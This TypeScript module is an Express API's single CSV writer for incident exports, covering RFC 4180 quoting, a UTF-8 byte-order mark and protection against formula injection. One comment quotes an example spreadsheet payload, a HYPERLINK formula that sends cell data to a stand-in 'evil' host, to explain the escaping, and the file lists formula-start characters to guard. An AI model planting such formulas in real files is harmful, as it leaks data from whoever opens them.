import type { Response } from 'express';
import { stringify, type Options } from 'csv-stringify/sync';

/**
 * The one CSV writer of the API: the incident list page, the incident export and statistics all
 * write through it. RFC 4180 (CRLF line ends, fields with commas, quotes or line breaks quoted,
 * quotes doubled) with a header row, in UTF-8 with a byte-order mark so that Excel reads Arabic
 * and other non-Latin script right instead of guessing a legacy code page.
 *
 * Formula injection: spreadsheets run a cell that starts with = + - @ (or a tab or carriage
 * return) as a formula, so a title such as =HYPERLINK("http://evil/?"&A1) typed into an incident
 * could act on the machine of whoever opens the export. csv-stringify's escape_formulas puts an
 * apostrophe before such text cells ('=HYPERLINK...), which spreadsheets show as plain text.
 * Numbers are not touched, so a longitude of -12.5 stays a number.
 */
export type CsvValue = string | number | null | undefined;

export interface CsvColumn<Row> {
  name: string;
  value: (row: Row) => CsvValue;
}

export const CSV_CONTENT_TYPE = 'text/csv; charset=utf-8; header=present';
export const CSV_BOM = '\uFEFF';
export const CSV_RECORD_END = '\r\n';
/**
 * The first characters that csv-stringify's escape_formulas guards with an apostrophe (a '-' only
 * on text, not on a number), for src/exports/incident-csv.ts, whose lines PostgreSQL builds.
 */
export const CSV_FORMULA_STARTS = ['=', '+', '-', '@', '\t', '\r', '\uFF1D', '\uFF0B', '\uFF0D', '\uFF20'] as const;

const options: Options = { record_delimiter: 'windows', escape_formulas: true };

export interface CsvTable<Row> {
  /** The start of the file: byte-order mark and header row. */
  head(): string;
  /** Records for some rows, to follow the head (a streamed export calls this once per batch). */
  rows(rows: readonly Row[]): string;
}

export function csvTable<Row>(columns: readonly CsvColumn<Row>[]): CsvTable<Row> {
  const names = columns.map((column) => column.name);
  return {
    head: () => stringify([], { ...options, bom: true, header: true, columns: names }),
    rows: (rows) =>
      rows.length
        ? stringify(
            rows.map((row) => columns.map((column) => column.value(row))),
            options,
          )
        : '',
  };
}

/** A whole table as the response, for small answers (one list page, statistics). */
export function sendCsv<Row>(res: Response, columns: readonly CsvColumn<Row>[], rows: readonly Row[], filename: string): void {
  const table = csvTable(columns);
  res
    .attachment(filename)
    .type(CSV_CONTENT_TYPE)
    .send(table.head() + table.rows(rows));
}
